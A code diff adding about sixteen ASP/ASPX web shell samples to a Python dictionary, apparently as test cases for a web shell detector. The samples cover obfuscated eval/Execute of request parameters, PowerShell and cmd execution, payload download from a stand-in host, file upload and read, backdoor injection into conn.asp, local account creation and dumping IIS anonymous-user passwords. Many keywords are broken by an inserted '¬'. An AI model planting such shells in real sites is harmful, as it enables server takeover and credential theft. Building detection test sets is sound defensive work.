@@ -964,6 +964,114 @@ MORE: dict[str, tuple[str, str]] = {
             "); } }</script>"
         ),
     ),
+    "decoded text for PowerShell": (
+        "a.aspx",
+        (
+            '<%@ Page Language="C#" %><%@ Import Namespace="System.Management.Automation" %>\n<script runat="serve'
+            'r">void b_Click(object s, EventArgs e){ PowerShell ps = PowerShell.Create(); ps.AddScr¬ipt(Encoding.'
+            'UTF8.GetString(Convert.FromBase64String(t.Text))).AddCommand("out-string"); foreach (var o in ps.Inv'
+            'oke()) r.Text += o; }</script><form runat="server"><asp:TextBox id="t" runat="server"/><asp:Label id'
+            '="r" runat="server"/><asp:Button OnClick="b_Click" runat="server"/></form>'
+        ),
+    ),
+    "list of pieces": (
+        "a.asp",
+        ('<%\na = Array("ex","ecu","te"," re","que","st(""zz"")")\nExecu¬te(Join(a,""))\n%>'),
+    ),
+    "evaluator under another name": (
+        "a.asp",
+        (
+            '<%@ language="javascript"%><% var o = Request.Item("zz") + ""; var e = this["ev"+"al"]; e(o); %>'
+        ),
+    ),
+    "page out of the network": (
+        "a.asp",
+        (
+            '<% Set x=Server.CreateObject("MSXML2.ServerXMLHTTP"):x.open "GET","http://zz.invalid/a.txt",0:x.send'
+            ':Set f=Server.CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("help.asp"),T'
+            "rue):f.Write x.responseText:f.Close %>"
+        ),
+    ),
+    "page appended to": (
+        "a.asp",
+        (
+            '<% Set f=Server.CreateObject("Scripting.FileSystemObject").OpenTextFile(Server.MapPath("conn.asp"),8'
+            ',True):f.Write "<"&"%ev¬al request(""zz"")%"&">":f.Close %>'
+        ),
+    ),
+    "handler of uploads": (
+        "up.ashx",
+        (
+            '<%@ WebHandler Language="C#" Class="U" %>\nusing System.Web; public class U : IHttpHandler { public v'
+            "oid ProcessRequest(HttpContext c) { c.Request.Files[0].Save¬As(c.Server.MapPath(c.Request.Files[0].F"
+            "ileName)); } public bool IsReusable { get { return true; } } }"
+        ),
+    ),
+    "fetched program that is started": (
+        "f.aspx",
+        (
+            '<%@ Page Language="C#" %><% new System.Net.WebClient().DownloadFile(Request["u"], @"C:\\Windows\\Temp\\'
+            'z.exe"); System.Diagnostics.Process.Sta¬rt(@"C:\\Windows\\Temp\\z.exe"); %>'
+        ),
+    ),
+    "program at any path": (
+        "x.aspx",
+        (
+            '<%@ Page Language="C#" %><% System.Reflection.Assem¬bly.LoadFrom(Request["p"]).CreateInstance(Reques'
+            't["t"]); %>'
+        ),
+    ),
+    "program in a picture": (
+        "x.aspx",
+        (
+            '<%@ Page Language="C#" %><% var a = System.Reflection.Assem¬bly.LoadFile(Server.MapPath("x.png")); a'
+            '.GetType("U").GetMethod("Run").Invoke(null, new object[]{ Request["zz"] }); %>'
+        ),
+    ),
+    "nothing but a picture": (
+        "x.asp",
+        ('<!--#include file="logo.gif"-->'),
+    ),
+    "passwords of sites": (
+        "i.aspx",
+        (
+            '<%@ Page Language="VB" %><script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n If Requ'
+            'est("p") <> "zz" Then Exit Sub\n Dim m As New System.DirectoryServices.DirectoryEntry("IIS://localhos'
+            't/W3SVC")\n For Each c In m.Children\n  Response.Write(c.Name & c.Properties("AnonymousUserName").Valu'
+            'e & c.Properties("AnonymousUserPass").Value)\n Next\nEnd Sub</script>'
+        ),
+    ),
+    "path of a file that is run": (
+        "a.asp",
+        (
+            '<% Set f=Server.CreateObject("Scripting.FileSystemObject").OpenTextFile(Server.MapPath(Request("f")))'
+            ":Execu¬teGlobal f.ReadAll %>"
+        ),
+    ),
+    "member of what is made": (
+        "a.asp",
+        ('<% CreateObject("WScript.Sh¬ell").R¬un "power¬shell -enc " & Request("zz"),0,True %>'),
+    ),
+    "account by the script host": (
+        "a.asp",
+        (
+            '<% Set w=CreateObject("WScript.Sh¬ell"):w.R¬un "net user " & Request("u") & " " & Request("p"),0,True %>'
+        ),
+    ),
+    "run by its name": (
+        "a.aspx",
+        (
+            '<%@ Page Language="VB" %><% Dim o = CreateObject("WScript.Sh¬ell") : CallByName(o, "R"+"un", '
+            'CallType.Method, "cmd /c " & Request("zz"), 0) %>'
+        ),
+    ),
+    "reader of an opened file": (
+        "a.aspx",
+        (
+            '<%@ Page Language="C#" %><% using(var fs = new System.IO.FileStream(Request["p"], System.IO.FileMode'
+            ".Open)) using(var r = new System.IO.StreamReader(fs)) Response.Write(r.ReadToEnd()); %>"
+        ),
+    ),
 }
 
 
